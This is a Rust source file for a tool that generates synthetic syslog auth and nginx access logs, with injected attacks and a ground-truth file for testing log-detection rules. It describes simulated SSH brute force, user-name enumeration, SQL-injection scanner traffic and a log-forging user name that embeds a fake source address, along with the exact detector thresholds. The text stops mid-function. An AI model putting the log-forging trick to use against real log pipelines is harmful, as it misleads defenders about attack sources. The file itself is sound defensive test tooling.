//! `sentinela-corpus`: deterministic synthetic log corpus for tests and benchmarks.
//!
//! ```text
//! sentinela-corpus --out DIR [--seed N] [--size-mb N] [--start 2026-03-01T00:00:00Z]
//! ```
//!
//! Writes into DIR:
//!
//! - `auth.log`: RFC 3164 syslog auth log (sshd, pam_unix, CRON, systemd-logind, sudo, su,
//!   kernel, postfix, dovecot), about `--size-mb` MiB (default 100).
//! - `access.log`: nginx "combined" access log, about `--size-mb` MiB as well.
//! - `truth.jsonl`: one JSON object per (file, detector, key) of injected attacks, e.g.
//!   `{"file": "auth.log", "detector": "ssh.password-failure", "fields": {"source.address":
//!   "203.0.113.7"}, "count": 12}`, where `count` is the exact number of lines of that attacker
//!   that the detector should match.
//! - `benign-sources.txt`: addresses that must never be the source of an incident (every benign
//!   client, the near-miss addresses and the forged `192.0.2.1`).
//!
//! Both logs span about 3.5 days from `--start`, with monotonic timestamps; the line rate is
//! derived from the target size. The output is byte-for-byte identical for a given seed, size and
//! start (a splitmix64 PRNG, no hash maps, no clock, no environment).
//!
//! THRESHOLDS: the truth must not depend on the exact thresholds of the shipped detector pack.
//! Every injected attack is far above them: >= 10 hits within 5 minutes for the "N in 10m"
//! detectors with N = 3..5; >= 24 within 5 minutes for dovecot (shipped: 10 in 10m); >= 22
//! distinct user names within 5 minutes for ssh.invalid-user (5 distinct in 10m) and
//! ssh.invalid-user-repeated (10 `Invalid user` lines in 10m), whose probes also log >= 44
//! pre-auth disconnects (ssh.preauth-disconnect-flood: 20 in 5m); >= 40
//! responses 401 within 4 minutes for http.auth-flood (20 in 5m). Every near miss is far below:
//! at most 2 hits per key, each near-miss address used once (benign workstations and phones are
//! reused round robin, days apart in large corpora). Pre-auth disconnects of the other ssh
//! attacks stay <= 8 per attack (one per connection of 3 or 4 attempts), and `Invalid user`
//! lines of password brute force <= 5. Attack scenarios never
//! reuse an address, so each (detector, key) pair is exactly one incident.
//!
//! Lines counted by more than one detector, and recorded as such in the truth:
//! - `Failed password for root` counts for `ssh.password-failure` and `ssh.root-login-attempt`;
//!   the shipped pack also counts `Connection closed by authenticating user root ... [preauth]`
//!   as a root login attempt, so that count is failures + connections.
//! - A forged `Failed password for invalid user NAME from 192.0.2.1 port 22 from ADDR ...` counts
//!   for `ssh.password-failure` (and the matching `Invalid user` line for `ssh.invalid-user`)
//!   with ADDR as the source.
//! - An sqlmap request carrying an SQL injection counts for `http.sqli` and
//!   `http.scanner-user-agent`.
//!
//! No other overlap is produced: attack lines of the other HTTP kinds never answer 401/403 and
//! only scanner scenarios use scanner user agents; benign traffic never fails an authentication,
//! never answers 401/403 and logs no pre-auth disconnects.

use std::cmp::Ordering;
use std::collections::{BTreeSet, BinaryHeap};
use std::fs::File;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::Instant;

const MIB: f64 = 1_048_576.0;
/// Time covered by each log.
const SPAN_MS: i64 = 84 * 3_600_000;
/// Flush the output buffer to the file past this size.
const FLUSH_AT: usize = 1 << 20;
/// The forged address that appears inside attacker-chosen user names.
const FORGED: &str = "192.0.2.1";

// ---------------------------------------------------------------------------------------------
// PRNG

/// splitmix64: tiny, fast, good enough for synthetic logs, identical on every platform.
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        let mut r = Rng(seed ^ 0x5DEE_CE66_D1CE_4E5B);
        r.next_u64();
        r
    }
    fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    /// Uniform in 0..n (n > 0).
    fn below(&mut self, n: u64) -> u64 {
        ((self.next_u64() as u128 * n as u128) >> 64) as u64
    }
    /// Uniform in lo..=hi.
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }
    fn ms(&mut self, lo: i64, hi: i64) -> i64 {
        lo + self.below((hi - lo + 1) as u64) as i64
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
    /// True with probability num/den.
    fn chance(&mut self, num: u64, den: u64) -> bool {
        self.below(den) < num
    }
    /// Skewed index in 0..n: small indexes are much more frequent (heavy clients).
    fn skewed(&mut self, n: u64) -> usize {
        let a = self.below(n);
        self.below(a + 1) as usize
    }
    /// Index into cumulative weights.
    fn weighted(&mut self, weights: &[u32]) -> usize {
        let total: u32 = weights.iter().sum();
        let mut x = self.below(total as u64) as u32;
        for (i, w) in weights.iter().enumerate() {
            if x < *w {
                return i;
            }
            x -= w;
        }
        weights.len() - 1
    }
    fn shuffle<T>(&mut self, items: &mut [T]) {
        for i in (1..items.len()).rev() {
            let j = self.below(i as u64 + 1) as usize;
            items.swap(i, j);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Fast appending of line pieces

trait Put {
    fn put(&self, b: &mut Vec<u8>);
}
impl Put for str {
    fn put(&self, b: &mut Vec<u8>) {
        b.extend_from_slice(self.as_bytes());
    }
}
impl Put for String {
    fn put(&self, b: &mut Vec<u8>) {
        b.extend_from_slice(self.as_bytes());
    }
}
impl Put for [u8] {
    fn put(&self, b: &mut Vec<u8>) {
        b.extend_from_slice(self);
    }
}
impl Put for Vec<u8> {
    fn put(&self, b: &mut Vec<u8>) {
        b.extend_from_slice(self);
    }
}
impl<T: Put + ?Sized> Put for &T {
    fn put(&self, b: &mut Vec<u8>) {
        (**self).put(b)
    }
}
fn put_u64(b: &mut Vec<u8>, mut n: u64) {
    let mut tmp = [0u8; 20];
    let mut i = tmp.len();
    loop {
        i -= 1;
        tmp[i] = b'0' + (n % 10) as u8;
        n /= 10;
        if n == 0 {
            break;
        }
    }
    b.extend_from_slice(&tmp[i..]);
}
macro_rules! impl_put_int {
    ($($t:ty),*) => {$(
        impl Put for $t {
            fn put(&self, b: &mut Vec<u8>) {
                put_u64(b, *self as u64)
            }
        }
    )*};
}
impl_put_int!(u64, u32, u16, u8, usize);

/// Fixed-width upper-case hexadecimal (postfix queue ids).
struct Hex(u64, usize);
impl Put for Hex {
    fn put(&self, b: &mut Vec<u8>) {
        const DIGITS: &[u8; 16] = b"0123456789ABCDEF";
        for i in (0..self.1).rev() {
            b.push(DIGITS[((self.0 >> (4 * i)) & 15) as usize]);
        }
    }
}
/// Fixed-width lower-case hexadecimal (MAC addresses).
struct HexLower(u64, usize);
impl Put for HexLower {
    fn put(&self, b: &mut Vec<u8>) {
        const DIGITS: &[u8; 16] = b"0123456789abcdef";
        for i in (0..self.1).rev() {
            b.push(DIGITS[((self.0 >> (4 * i)) & 15) as usize]);
        }
    }
}
/// Hundredths of a second as `S.hh` (postfix delays).
struct Secs(u64);
impl Put for Secs {
    fn put(&self, b: &mut Vec<u8>) {
        put_u64(b, self.0 / 100);
        b.push(b'.');
        Pad(self.0 % 100, 2).put(b);
    }
}
/// `n` characters from a base64-ish alphabet derived from a seed (fingerprints, session ids).
struct B64(u64, usize);
impl Put for B64 {
    fn put(&self, b: &mut Vec<u8>) {
        const ALPHA: &[u8; 64] =
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut r = Rng(self.0);
        let mut x = 0u64;
        for i in 0..self.1 {
            if i % 10 == 0 {
                x = r.next_u64();
            }
            b.push(ALPHA[(x & 63) as usize]);
            x >>= 6;
        }
    }
}
/// Zero-padded decimal.
struct Pad(u64, usize);
impl Put for Pad {
    fn put(&self, b: &mut Vec<u8>) {
        let mut tmp = Vec::with_capacity(20);
        put_u64(&mut tmp, self.0);
        for _ in tmp.len()..self.1 {
            b.push(b'0');
        }
        b.extend_from_slice(&tmp);
    }
}
/// Right-aligned in a field of width `1` (sudo's `%8s`).
struct Right<'a>(&'a str, usize);
impl Put for Right<'_> {
    fn put(&self, b: &mut Vec<u8>) {
        for _ in self.0.len()..self.1 {
            b.push(b' ');
        }
        b.extend_from_slice(self.0.as_bytes());
    }
}

macro_rules! put {
    ($b:expr, $($x:expr),* $(,)?) => {{
        let b: &mut Vec<u8> = $b;
        $( Put::put(&$x, b); )*
    }};
}

/// Builds a fresh byte vector from pieces.
macro_rules! bytes {
    ($($x:expr),* $(,)?) => {{
        let mut v: Vec<u8> = Vec::with_capacity(160);
        put!(&mut v, $($x),*);
        v
    }};
}

// ---------------------------------------------------------------------------------------------
// Time

fn days_from_civil(y: i64, m: i64, d: i64) -> i64 {
    let y = if m <= 2 { y - 1 } else { y };
    let era = if y >= 0 { y } else { y - 399 } / 400;
    let yoe = y - era * 400;
    let doy = (153 * (if m > 2 { m - 3 } else { m + 9 }) + 2) / 5 + d - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146_097 + doe - 719_468
}

fn civil_from_days(z: i64) -> (i64, usize, u64) {
    let z = z + 719_468;
    let era = if z >= 0 { z } else { z - 146_096 } / 146_097;
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    (if m <= 2 { y + 1 } else { y }, m as usize, d as u64)
}

/// Parses `YYYY-MM-DDTHH:MM:SSZ` into milliseconds since the Unix epoch.
fn parse_start(s: &str) -> Option<i64> {
    let b = s.as_bytes();
    if b.len() != 20 || b[4] != b'-' || b[7] != b'-' || b[10] != b'T' || b[19] != b'Z' {
        return None;
    }
    let num = |r: std::ops::Range<usize>| s.get(r)?.parse::<i64>().ok();
    let (y, mo, d) = (num(0..4)?, num(5..7)?, num(8..10)?);
    let (h, mi, se) = (num(11..13)?, num(14..16)?, num(17..19)?);
    if !(1..=12).contains(&mo) || !(1..=31).contains(&d) || h > 23 || mi > 59 || se > 59 {
        return None;
    }
    Some((days_from_civil(y, mo, d) * 86_400 + h * 3600 + mi * 60 + se) * 1000)
}

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

/// Cached renderings of the current second.
struct Clock {
    sec: i64,
    /// `Mar  1 10:00:00 ` (RFC 3164, trailing space).
    syslog: Vec<u8>,
    /// `01/Mar/2026:10:00:00 +0000`.
    nginx: Vec<u8>,
}

impl Clock {
    fn new() -> Clock {
        Clock {
            sec: i64::MIN,
            syslog: Vec::new(),
            nginx: Vec::new(),
        }
    }
    fn set(&mut self, ms: i64) {
        let sec = ms.div_euclid(1000);
        if sec == self.sec {
            return;
        }
        self.sec = sec;
        let (y, m, d) = civil_from_days(sec.div_euclid(86_400));
        let tod = sec.rem_euclid(86_400) as u64;
        let (hh, mm, ss) = (tod / 3600, tod / 60 % 60, tod % 60);
        self.syslog.clear();
        let day = if d < 10 { " " } else { "" };
        put!(
            &mut self.syslog,
            MONTHS[m - 1],
            " ",
            day,
            d,
            " ",
            Pad(hh, 2),
            ":",
            Pad(mm, 2),
            ":",
            Pad(ss, 2),
            " "
        );
        self.nginx.clear();
        put!(
            &mut self.nginx,
            Pad(d, 2),
            "/",
            MONTHS[m - 1],
            "/",
            Pad(y as u64, 4),
            ":",
            Pad(hh, 2),
            ":",
            Pad(mm, 2),
            ":",
            Pad(ss, 2),
            " +0000"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Output, scheduling, truth

struct Out {
    file: File,
    buf: Vec<u8>,
    flushed: u64,
    lines: u64,
}

impl Out {
    fn create(path: &Path) -> std::io::Result<Out> {
        Ok(Out {
            file: File::create(path)?,
            buf: Vec::with_capacity(FLUSH_AT + 4096),
            flushed: 0,
            lines: 0,
        })
    }
    fn len(&self) -> u64 {
        self.flushed + self.buf.len() as u64
    }
    fn end_line(&mut self) -> std::io::Result<()> {
        self.buf.push(b'\n');
        self.lines += 1;
        if self.buf.len() >= FLUSH_AT {
            self.file.write_all(&self.buf)?;
            self.flushed += self.buf.len() as u64;
            self.buf.clear();
        }
        Ok(())
    }
    fn finish(&mut self) -> std::io::Result<()> {
        self.file.write_all(&self.buf)?;
        self.flushed += self.buf.len() as u64;
        self.buf.clear();
        self.file.flush()
    }
}

/// A line scheduled in the future. Syslog: `a` = host, `b` = message.
/// nginx: `a` = client address, `b` = everything after the timestamp.
struct Deferred {
    t: i64,
    seq: u64,
    a: Box<[u8]>,
    b: Box<[u8]>,
}
impl PartialEq for Deferred {
    fn eq(&self, o: &Self) -> bool {
        (self.t, self.seq) == (o.t, o.seq)
    }
}
impl Eq for Deferred {}
impl PartialOrd for Deferred {
    fn partial_cmp(&self, o: &Self) -> Option<Ordering> {
        Some(self.cmp(o))
    }
}
impl Ord for Deferred {
    // Reversed: BinaryHeap is a max-heap and we want the earliest first.
    fn cmp(&self, o: &Self) -> Ordering {
        (o.t, o.seq).cmp(&(self.t, self.seq))
    }
}

#[derive(Default)]
struct Queue {
    heap: BinaryHeap<Deferred>,
    seq: u64,
}
impl Queue {
    fn at(&mut self, t: i64, a: &[u8], b: Vec<u8>) {
        self.seq += 1;
        self.heap.push(Deferred {
            t,
            seq: self.seq,
            a: a.into(),
            b: b.into_boxed_slice(),
        });
    }
    fn next_before(&mut self, t: i64) -> Option<Deferred> {
        if self.heap.peek()?.t <= t {
            self.heap.pop()
        } else {
            None
        }
    }
}

struct Truth {
    file: &'static str,
    detector: &'static str,
    field: &'static str,
    value: String,
    count: u64,
}

fn json_str(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
}

/// Documentation-range address number `k` of a family: IPv4 `v4.lo+k` while it fits and
/// `k % 3 != 2`, IPv6 `v6::k+1` otherwise. Unique for distinct `k`.
fn doc_addr(v4: &str, lo: u64, n: u64, v6: &str, k: u64) -> String {
    if k < n && k % 3 != 2 {
        format!("{v4}{}", lo + k)
    } else {
        format!("{v6}{:x}", k + 1)
    }
}

/// Shared per-file state of a generator.
struct Gen {
    rng: Rng,
    out: Out,
    clock: Clock,
    queue: Queue,
    now: i64,
    start: i64,
    target: u64,
    events: u64,
    truth: Vec<Truth>,
    benign: BTreeSet<String>,
    attackers: u64,
    near_misses: u64,
}

impl Gen {
    fn new(seed: u64, path: &Path, start: i64, target: u64) -> std::io::Result<Gen> {
        Ok(Gen {
            rng: Rng::new(seed),
            out: Out::create(path)?,
            clock: Clock::new(),
            queue: Queue::default(),
            now: start,
            start,
            target,
            events: 0,
            truth: Vec::new(),
            benign: BTreeSet::new(),
            attackers: 0,
            near_misses: 0,
        })
    }

    /// Time of the next benign event: the mean gap is chosen so that the remaining bytes fill the
    /// remaining time span, given the bytes per event seen so far.
    fn next_event_time(&mut self) -> i64 {
        let written = self.out.len().max(1);
        let per_event = if self.events < 64 {
            200
        } else {
            written / self.events
        };
        let remaining_bytes = self.target.saturating_sub(written).max(per_event);
        let remaining_ms = (self.start + SPAN_MS - self.now).max(60_000) as u64;
        let mean = (remaining_ms as u128 * per_event as u128 / remaining_bytes as u128) as u64;
        self.now + self.rng.below(2 * mean + 1) as i64
    }

    fn record(
        &mut self,
        file: &'static str,
        detector: &'static str,
        field: &'static str,
        value: &str,
        count: u64,
    ) {
        self.truth.push(Truth {
            file,
            detector,
            field,
            value: value.to_string(),
            count,
        });
    }
}

// ---------------------------------------------------------------------------------------------
// auth.log

const HOSTS_SSH: [&str; 4] = ["bastion", "web1", "web2", "db1"];
const HOSTS_ALL: [&str; 5] = ["bastion", "web1", "web2", "db1", "mail1"];
const MAIL_HOST: &str = "mail1";
/// (user, uid)
const SSH_USERS: [(&str, u32); 8] = [
    ("alice", 1000),
    ("carol", 1001),
    ("dave", 1002),
    ("deploy", 1100),
    ("ansible", 1101),
    ("backup", 1102),
    ("git", 1103),
    ("ubuntu", 1104),
];
const ADMINS: [(&str, u32); 3] = [("alice", 1000), ("carol", 1001), ("dave", 1002)];
const MAIL_USERS: [&str; 10] = [
    "bob", "erin", "frank", "grace", "heidi", "ivan", "judy", "niaj", "olivia", "rupert",
];
const SUDO_COMMANDS: [&str; 10] = [
    "/usr/bin/apt update",
    "/usr/bin/apt upgrade -y",
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/systemctl status postgresql",
    "/usr/bin/journalctl -u nginx --since today",
    "/usr/bin/tail -n 200 /var/log/syslog",
    "/usr/sbin/ufw status verbose",
    "/usr/bin/docker ps",
    "/usr/bin/du -sh /var/lib/postgresql",
    "/usr/bin/certbot renew --dry-run",
];
const ENUM_NAMES: [&str; 40] = [
    "admin",
    "test",
    "user",
    "oracle",
    "postgres",
    "pi",
    "guest",
    "ftpuser",
    "jenkins",
    "hadoop",
    "minecraft",
    "steam",
    "tomcat",
    "nagios",
    "support",
    "teamspeak",
    "ts3",
    "mysql",
    "www",
    "web",
    "dev",
    "demo",
    "administrator",
    "test1",
    "test123",
    "user1",
    "admin1",
    "server",
    "sysadmin",
    "operator",
    "centos",
    "debian",
    "zabbix",
    "elastic",
    "kafka",
    "redis",
    "vagrant",
    "odoo",
    "wordpress",
    "ftp",
];
const SUDO_INTRUDERS: [&str; 8] = [
    "mallory", "oscar", "peggy", "sybil", "trudy", "victor", "walter", "intern",
];
const DOVECOT_TARGETS: [&str; 6] = ["bob", "admin", "info", "sales", "contact", "webmaster"];

fn auth_attacker(k: u64) -> String {
    doc_addr("203.0.113.", 1, 126, "2001:db8:a::", k)
}
fn near_miss_addr(k: u64) -> String {
    doc_addr("198.51.100.", 1, 254, "2001:db8:b::", k)
}

struct Auth {
    g: Gen,
    /// Admin workstations and VPN clients that log in over ssh.
    ssh_clients: Vec<String>,
    /// Mail clients (dovecot, submission).
    mail_clients: Vec<String>,
    /// Internet hosts (firewall logs, inbound smtp).
    internet: Vec<String>,
    logind_pid: [u64; 5],
    boot_ms: [i64; 5],
    logind_session: u64,
    typos: usize,
}

const AUTH: &str = "auth.log";

impl Auth {
    fn new(g: Gen) -> Auth {
        let mut g = g;
        let ssh_clients: Vec<String> = (0..40)
            .map(|i| format!("10.0.{}.{}", 1 + i / 20, 10 + (i % 20) * 7))
            .collect();
        let mail_clients: Vec<String> = (0..300)
            .map(|i| {
                if i % 5 == 4 {
                    format!("fd00:4d41:494c::{:x}", 0x100 + i)
                } else {
                    format!(
                        "100.{}.{}.{}",
                        64 + i % 7,
                        (i * 37) % 256,
                        1 + (i * 11) % 254
                    )
                }
            })
            .collect();
        let internet: Vec<String> = (0..400)
            .map(|i| {
                format!(
                    "100.{}.{}.{}",
                    80 + i % 40,
                    (i * 53) % 256,
                    1 + (i * 29) % 254
                )
            })
            .collect();
        for a in ssh_clients.iter().chain(&mail_clients).chain(&internet) {
            g.benign.insert(a.clone());
        }
        let logind_pid = [611, 598, 603, 622, 590];
        let mut boot_ms = [0i64; 5];
        for b in boot_ms.iter_mut() {
            *b = g.start - g.rng.ms(3_600_000, 40 * 86_400_000);
        }
        Auth {
            g,
            ssh_clients,
            mail_clients,
            internet,
            logind_pid,
            boot_ms,
            logind_session: 1000,
            typos: 0,
        }
    }

    /// Starts an immediate line at `now` on `host`; append the message then call `end`.
    fn begin(&mut self, host: &str) {
        self.g.clock.set(self.g.now);
        let buf = &mut self.g.out.buf;
        buf.extend_from_slice(&self.g.clock.syslog);
        buf.extend_from_slice(host.as_bytes());
        buf.push(b' ');
    }
    fn end(&mut self) -> std::io::Result<()> {
        self.g.out.end_line()
    }
    fn later(&mut self, dt: i64, host: &str, msg: Vec<u8>) {
        self.g.queue.at(self.g.now + dt, host.as_bytes(), msg);
    }
    fn write_deferred(&mut self, d: Deferred) -> std::io::Result<()> {
        self.g.now = d.t;
        self.g.clock.set(d.t);
        let buf = &mut self.g.out.buf;
        buf.extend_from_slice(&self.g.clock.syslog);
        buf.extend_from_slice(&d.a);
        buf.push(b' ');
        buf.extend_from_slice(&d.b);
        self.g.out.end_line()
    }

    fn host_index(host: &str) -> usize {
        HOSTS_ALL.iter().position(|h| *h == host).unwrap_or(0)
    }
    fn pid(&mut self) -> u64 {
        self.g.rng.range(1200, 99_999)
    }
    fn port(&mut self) -> u64 {
        self.g.rng.range(32_768, 60_999)
    }

    fn run(mut self) -> std::io::Result<Gen> {
        let scenarios = self.plan();
        let n = scenarios.len() as u64;
        let mut next = 0usize;
        loop {
            while next < scenarios.len()
                && self.g.out.len() >= self.g.target * (next as u64 + 1) / (n + 1)
            {
                self.scenario(scenarios[next]);
                next += 1;
            }
            if self.g.out.len() >= self.g.target && next == scenarios.len() {
                break;
            }
            let t = self.g.next_event_time();
            while let Some(d) = self.g.queue.next_before(t) {
                self.write_deferred(d)?;
            }
            self.g.now = t;
            self.g.events += 1;
            self.benign()?;
        }
        while let Some(d) = self.g.queue.heap.pop() {
            self.write_deferred(d)?;
        }
        self.g.out.finish()?;
        Ok(self.g)
    }

    // --- benign traffic -----------------------------------------------------------------

    fn benign(&mut self) -> std::io::Result<()> {
        // No sshd health checks: a load balancer's TCP checks are logged as pre-auth closes and
        // would (rightly) trip ssh.preauth-disconnect-flood at high rates.
        //            cron ssh-key sudo kern postfix dovecot su  ssh-pw user-mgr
        const W: [u32; 9] = [32, 16, 8, 4, 15, 13, 2, 3, 7];
        match self.g.rng.weighted(&W) {
            0 => self.cron(),
            1 => self.ssh_session(false),
            2 => self.sudo(),
            3 => self.kernel(),
            4 => self.postfix(),
            5 => self.dovecot(),
            6 => self.su(),
            7 => self.ssh_session(true),
            _ => self.systemd_user(),
        }
    }

    fn cron(&mut self) -> std::io::Result<()> {
        let host = *self.g.rng.pick(&HOSTS_ALL);
        let pid = self.pid();
        let (user, uid) = if self.g.rng.chance(1, 5) {
            ("www-data", 33)
        } else {
            ("root", 0)
        };
        self.begin(host);
        put!(
            &mut self.g.out.buf,
            "CRON[",
            pid,
            "]: pam_unix(cron:session): session opened for user ",
            user,
            "(uid=",
            uid as u64,
            ") by (uid=0)"
        );
        self.end()?;
        let dt = self.g.rng.ms(40, 90_000);
        let msg = bytes!(
            "CRON[",
            pid,
            "]: pam_unix(cron:session): session closed for user ",
            user
        );
        self.later(dt, host, msg);
        Ok(())
    }

    /// A complete interactive ssh session by a known user from an internal address.
    fn ssh_session(&mut self, password: bool) -> std::io::Result<()> {
        let host = *self.g.rng.pick(&HOSTS_SSH);
        let (user, uid) = *self.g.rng.pick(&SSH_USERS);
        let ci = self.g.rng.skewed(self.ssh_clients.len() as u64);
        let addr = self.ssh_clients[ci].clone();
        let duration = self.g.rng.ms(20_000, 7_200_000);
        self.login_lines(host, user, uid, &addr, password, duration)
    }

    /// Accepted + session opened now, session closed after `duration`.
    fn login_lines(
        &mut self,
        host: &str,
        user: &str,
        uid: u32,
        addr: &str,
        password: bool,
        duration: i64,
    ) -> std::io::Result<()> {
        let pid = self.pid();
        let port = self.port();
        let hi = Self::host_index(host);
        let lpid = self.logind_pid[hi];
        self.logind_session += 1;
        let sid = self.logind_session;
        self.begin(host);
        if password {
            put!(
                &mut self.g.out.buf,
                "sshd[",
                pid,
                "]: Accepted password for ",
                user,
                " from ",
                addr,
                " port ",
                port,
                " ssh2"
            );
        } else {
            let fp = self.g.rng.next_u64();
            let kind = if fp & 3 == 0 { "RSA" } else { "ED25519" };
            put!(
                &mut self.g.out.buf,
                "sshd[",
                pid,
                "]: Accepted publickey for ",
                user,
                " from ",
                addr,
                " port ",
                port,
                " ssh2: ",
                kind,
                " SHA256:",
                B64(fp ^ uid as u64, 43)
            );
        }
        self.end()?;
        self.begin(host);
        put!(
            &mut self.g.out.buf,
            "sshd[",
            pid,
            "]: pam_unix(sshd:session): session opened for user ",
            user,
            "(uid=",
            uid,
            ") by (uid=0)"
        );
        self.end()?;
        self.begin(host);
        put!(
            &mut self.g.out.buf,
            "systemd-logind[",
            lpid,
            "]: New session ",
            sid,
            " of user ",
            user,
            "."
        );
        self.end()?;
        let d = duration;
        let m = bytes!(
            "sshd[",
            pid,
            "]: Received disconnect from ",
            addr,
            " port ",
            port,
            ":11: disconnected by user"
        );
        self.later(d, host, m);
        let m = bytes!(
            "sshd[",
            pid,
            "]: Disconnected from user ",
            user,
            " ",
            addr,
            " port ",
            port
        );
        self.later(d, host, m);
        let m = bytes!(
            "sshd[",
            pid,
            "]: pam_unix(sshd:session): session closed for user ",
            user
        );
        self.later(d + 3, host, m);
        let m = bytes!(
            "systemd-logind[",
            lpid,
            "]: Session ",
            sid,
            " logged out. Waiting for processes to exit."
        );
        self.later(d + 5, host, m);
        let m = bytes!("systemd-logind[", lpid, "]: Removed session ", sid, ".");
        self.later(d + 9, host, m);
        Ok(())
    }

    fn sudo(&mut self) -> std::io::Result<()> {
        let host = *self.g.rng.pick(&HOSTS_SSH);
        let (user, uid) = *self.g.rng.pick(&ADMINS);
        let cmd = *self.g.rng.pick(&SUDO_COMMANDS);
        let tty = self.g.rng.below(4);
        self.begin(host);
        put!(
            &mut self.g.out.buf,
            "sudo: ",
            Right(user, 8),
            " : TTY=pts/",
            tty,
            " ; PWD=/home/",
            user,
            " ; USER=root ; COMMAND=",
            cmd
        );
        self.end()?;
        self.begin(host);
        put!(
            &mut self.g.out.buf,
            "sudo: pam_unix(sudo:session): session opened for user root(uid=0) by ",
            user,
            "(uid=",
            uid,
            ")"
        );
        self.end()?;
        let dt = self.g.rng.ms(50, 40_000);
        let m = bytes!("sudo: pam_unix(sudo:session): session closed for user root");
        self.later(dt, host, m);
        Ok(())
    }

    fn su(&mut self) -> std::io::Result<()> {
        let host = *self.g.rng.pick(&HOSTS_SSH);
        let (user, uid) = *self.g.rng.pick(&ADMINS);
        let tty = self.g.rng.below(4);
        self.begin(host);
        put!(&mut self.g.out.buf, "su: (to root) ", user, " on pts/", tty);
        self.end()?;
        self.begin(host);
        put!(
            &mut self.g.out.buf,
            "su: pam_unix(su-l:session): session opened for user root(uid=0) by ",
            user,
            "(uid=",
            uid,
            ")"
        );
        self.end()?;
        let dt = self.g.rng.ms(5_000, 900_000);
        let m = bytes!("su: pam_unix(su-l:session): session closed for user root");
        self.later(dt, host, m);
        Ok(())
    }

    fn systemd_user(&mut self) -> std::io::Result<()> {
        let host = *self.g.rng.pick(&HOSTS_SSH);
        let (user, uid) = *self.g.rng.pick(&SSH_USERS);
        let pid = self.pid();
        self.begin(host);
        put!(
            &mut self.g.out.buf,
            "(systemd)[",
            pid,
            "]: pam_unix(systemd-user:session): session opened for user ",
            user,
            "(uid=",
            uid,
            ") by (uid=0)"
        );
        self.end()?;
        let dt = self.g.rng.ms(10_000, 3_600_000);
        let m = bytes!(
            "(systemd)[",
            pid,
            "]: pam_unix(systemd-user:session): session closed for user ",
            user
        );
        self.later(dt, host, m);
        Ok(())
    }

    fn kernel(&mut self) -> std::io::Result<()> {
        let hi = self.g.rng.below(5) as usize;
        let host = HOSTS_ALL[hi];
        let up = (self.g.now - self.boot_ms[hi]) as u64;
        let src = self.internet[self.g.rng.skewed(self.internet.len() as u64)].clone();
        let dpt = *self
            .g
            .rng
            .pick(&[23u64, 3389, 445, 5900, 8080, 6379, 1433, 3306, 9200]);
        let mac = self.g.rng.next_u64();
        let id = self.g.rng.below(65_536);
        let spt = self.port();
        let ttl = self.g.rng.range(40, 250);
        self.begin(host);
        put!(
            &mut self.g.out.buf,
            "kernel: [",
            Right(&(up / 1000).to_string(), 5),
            ".",
            Pad((up % 1000) * 1000 + self.g.rng.below(1000), 6),
            "] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:",
            HexLower(mac & 0xff, 2),
            ":",
            HexLower((mac >> 8) & 0xff, 2),
            ":",
            HexLower((mac >> 16) & 0xff, 2),
            ":fe:ff:ff:01:0c:86:dd SRC=",
            src,
            " DST=10.0.0.",
            hi as u64 + 4,
            " LEN=44 TOS=0x00 PREC=0x00 TTL=",
            ttl,
            " ID=",
            id,
            " PROTO=TCP SPT=",
            spt,
            " DPT=",
            dpt,
            " WINDOW=1024 RES=0x00 SYN URGP=0"
        );
        self.end()
    }

    fn postfix(&mut self) -> std::io::Result<()> {
        let host = MAIL_HOST;
        let pid = self.pid();
        let qid = self.g.rng.next_u64() & 0xFF_FFFF_FFFF;
        let inbound = self.g.rng.chance(3, 5);
        let (cname, caddr, sasl_user) = if inbound {
            let i = self.g.rng.skewed(self.internet.len() as u64);
            (
                format!("mail{}.example.org", i % 50),
                self.internet[i].clone(),
                None,
            )
        } else {
            let i = self.g.rng.skewed(self.mail_clients.len() as u64);
            (
                "unknown".to_string(),
                self.mail_clients[i].clone(),
                Some(*self.g.rng.pick(&MAIL_USERS)),
            )
        };
        self.begin(host);
        put!(
            &mut self.g.out.buf,
            "postfix/smtpd[",
            pid,
            "]: connect from ",
            cname,
            "[",
            caddr,
            "]"
        );
        self.end()?;
        let mut t = self.g.rng.ms(100, 900);
        let m = match sasl_user {
            Some(u) => bytes!(
                "postfix/smtpd[",
                pid,
                "]: ",
                Hex(qid, 10),
                ": client=",
                cname,
                "[",
                caddr,
                "], sasl_method=PLAIN, sasl_username=",
                u
            ),
            None => bytes!(
                "postfix/smtpd[",
                pid,
                "]: ",
                Hex(qid, 10),
                ": client=",
                cname,
                "[",
                caddr,
                "]"
            ),
        };
        self.later(t, host, m);
        t += self.g.rng.ms(10, 200);
        let cpid = self.pid();
        let m = bytes!(
            "postfix/cleanup[",
            cpid,
            "]: ",
            Hex(qid, 10),
            ": message-id=<",
            Hex(qid.wrapping_mul(0x9E37), 12),
            ".",
            Hex(qid >> 3, 6),
            "@",
            if inbound {
